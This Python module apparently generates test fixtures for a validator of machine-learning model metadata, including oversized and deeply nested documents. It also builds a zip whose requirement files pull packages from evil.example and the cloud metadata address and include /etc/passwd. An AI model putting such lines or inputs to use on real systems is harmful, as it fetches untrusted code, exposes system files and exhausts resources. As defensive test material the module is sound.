"""What is too large to keep, made when it is wanted: documents, by the names in expected.toml, and what they name."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

ITEMS = Path(__file__).parent / "items"
_MEMBERS = {
    "weights.onnx": "\b\a",
    "sample.tif": "II*\0",
    "expected.tif": "II*\0",
    "handler.py": "",
    "environment.yml": "dependencies:\n- python=3.10\n- onnxruntime=1.17.1\n- tifffile\n",
    "requirements-url.txt": "onnxruntime==1.17.1\ntorch @ http://169.254.169.254/x.whl\n",
    "requirements-index.txt": "--extra-index-url http://evil.example/\n--trusted-host x\nonnxruntime==1.17.1\n",
    "requirements-git.txt": "onnxruntime==1.17.1\n-e git+https://evil.example/x#egg=x\n",
    "requirements-include.txt": "onnxruntime==1.17.1\n-r /etc/passwd\n-r ../../x.txt\n-c http://169.254.169.254/c\n",
    "requirements-marker.txt": "onnxruntime==1.17.1; sys_platform == 'x\n",
    "requirements-itself.txt": "onnxruntime==1.17.1\n-r requirements-itself.txt\n",
}  # fmt: skip


def archive() -> bytes:
    """The one that items name, always the same bytes."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as writer:
        for name, text in _MEMBERS.items():
            writer.writestr(zipfile.ZipInfo(name, (2024, 1, 31, 0, 0, 0)), text)
    return packed.getvalue()


def beside() -> dict[str, bytes]:
    """The files that lie beside an item."""
    loose = ("weights.onnx", "sample.tif", "expected.tif")
    return {"model.zip": archive()} | {name: _MEMBERS[name].encode("latin-1") for name in loose}


def made(name: str) -> bytes:
    return DOCUMENTS[name]().encode()


def _good(pointer: str, value: Any, kind: str = "dlm") -> str:
    """The good item of that kind with another value there."""
    item = json.loads((ITEMS / f"good-{kind}.json").read_text("utf-8"))
    *above, last = pointer.strip("/").split("/")
    place = item
    for key in above:
        place = place[int(key)] if isinstance(place, list) else place[key]
    place[int(last) if isinstance(place, list) else last] = value
    return json.dumps(item)


def _classes(count: int) -> str:
    return _good("/properties/dlm:outputs/class_name_mapping", [{str(n): f"class {n}"} for n in range(count)])


def _assets(count: int) -> dict[str, Any]:
    return {f"a{n}": {"href": f"https://e.example/{n}", "roles": n} for n in range(count)}


def _entry_points(count: int) -> dict[str, Any]:
    return {f"a{n}": {"href": f"x {n}", "roles": ["mlm:source_code"], "mlm:entrypoint": "x y"} for n in range(count)}


DOCUMENTS: dict[str, Callable[[], str]] = {
    "long_run": lambda: _good("/properties/dlm:runtime/docker/run", "x" * 1_000_000),
    "brackets": lambda: "[" * 1_000_000,
    "deep_objects": lambda: '{"a":' * 5_000 + "1" + "}" * 5_000,
    "deep_flow": lambda: "a: " + "[" * 5_000,
    "deep_blocks": lambda: "".join(f"{' ' * n}a:\n" for n in range(500)),
    "five_megabytes": lambda: _good("/properties/description", "x" * 5_000_000),
    "five_megabytes_of_yaml": lambda: f"description: {'x' * 5_000_000}\n",
    "half_a_megabyte_of_yaml": lambda: "".join(f"k{n}: {'x' * 90}\n" for n in range(5_000)),
    "many_values": lambda: _good("/properties/table", list(range(350_000))),
    "many_events": lambda: f"a: [{'x, ' * 45_000}]\n",
    "hidden_brackets": lambda: '// it"s an item\n' + "[" * 5_000,
    "white_space": lambda: " \n\t" * 1_000_000,
    "closing_brackets": lambda: "[]" + "]" * 100_000,
    "long_integer": lambda: f'{{"properties": {{"x": {"9" * 5_000}}}}}',
    "long_fraction": lambda: f'{{"x": 0.{"1" * 399}}}',
    "ten_megabytes_of_classes": lambda: _classes(400_000),
    "classes_too_many": lambda: _classes(10_001),
    "classes_most": lambda: _classes(10_000),
    "thousand_assets": lambda: _good("/assets", _assets(1000)),
    "assets_too_many": lambda: _good("/assets", [_assets(2_001)]),
    "entry_points": lambda: _good("/assets", _entry_points(2_000), "mlm"),
    "bands": lambda: _good("/properties/mlm:input/0/bands", [f"b{n}" for n in range(10_000)], "mlm"),
    "odd_rows": lambda: _good("/properties/dlm:archive", [{"name": f" a\\{n}", "role": n} for n in range(1000)]),
}  # fmt: skip
